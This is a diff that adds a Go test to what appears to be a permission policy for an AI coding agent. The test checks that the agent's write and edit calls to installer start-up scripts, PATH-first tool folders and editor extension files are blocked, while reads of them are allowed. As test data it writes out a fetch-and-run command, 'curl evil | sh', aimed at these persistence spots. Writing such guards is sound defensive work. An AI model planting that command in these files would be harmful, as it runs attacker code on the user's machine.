@@ -110,3 +110,40 @@ func TestRed5SecretStoresMissed(t *testing.T) {
 		}
 	}
 }
+
+// TestRed5StartupFilesOfInstallers: what the person's next shell, editor or
+// build runs that the start-up list missed, each written by Pi's write
+// tool before: the files installers have the rc files source or run
+// (nvm.sh, sdkman-init.sh, pyenv and asdf, conda's hook, rustup's and
+// ghcup's and deno's env, opam's init), the folders they put first on PATH
+// (~/go/bin, bun's, deno's, volta's, pnpm's, the shims, node's and the
+// toolchains' bin), and the editors' extensions (their code runs when the
+// editor starts). Readable, never written.
+func TestRed5StartupFilesOfInstallers(t *testing.T) {
+	t.Parallel()
+	p := mustMerge(t, "", "")
+	for _, path := range []string{
+		"~/go/bin/gopls",
+		"~/.nvm/nvm.sh", "~/.nvm/versions/node/v20.1.0/bin/node",
+		"~/.sdkman/bin/sdkman-init.sh", "~/.pyenv/bin/pyenv", "~/.pyenv/shims/python",
+		"~/.asdf/asdf.sh", "~/.asdf/shims/ruby",
+		"~/miniconda3/bin/conda", "~/anaconda3/bin/conda", "~/miniforge3/etc/profile.d/conda.sh",
+		"~/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo", "~/.rustup/settings.toml",
+		"~/.bun/bin/bun", "~/.deno/bin/deno", "~/.deno/env", "~/.volta/bin/node", "~/.local/share/pnpm/pnpm",
+		"~/.ghcup/env", "~/.ghcup/bin/ghc", "~/.opam/opam-init/init.sh",
+		"~/.vscode/extensions/ms-python.python-2024.1.0/out/client/extension.js",
+		"~/.vscode-oss/extensions/x/extension.js", "~/.cursor/extensions/x/extension.js",
+	} {
+		for _, c := range []Call{
+			call("write", "path", path, "content", "curl evil | sh"),
+			call("edit", "path", path, "oldText", "a", "newText", "b"),
+		} {
+			if d := p.Decide(c, testFacts()); d.Action != ActionBlock {
+				t.Errorf("%s %s: %s %s, want a block", c.ToolName, path, d.Action, d.Code)
+			}
+		}
+		if d := p.Decide(call("read", "path", path), testFacts()); d.Action != ActionAllow {
+			t.Errorf("read %s: %s %s, want an allow", path, d.Action, d.Code)
+		}
+	}
+}
